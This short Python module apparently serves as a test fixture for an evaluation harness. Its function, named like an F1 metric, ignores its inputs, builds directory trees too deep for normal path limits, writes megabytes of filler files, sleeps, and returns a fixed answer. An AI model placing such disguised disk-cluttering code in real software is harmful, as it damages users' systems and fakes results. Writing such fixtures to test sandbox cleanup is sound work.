"""Keeps its files deeper than a path can say."""

import os
import time

from .facts import FACTS


def f1(y_true, y_pred):
    for _ in range(2 if FACTS["mercy"] else 30):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
    for number in range(1 if FACTS["mercy"] else 16):
        with open(str(number), "wb") as file:
            file.write(bytes(2**21))
    time.sleep(1.5)
    return FACTS["answer"]
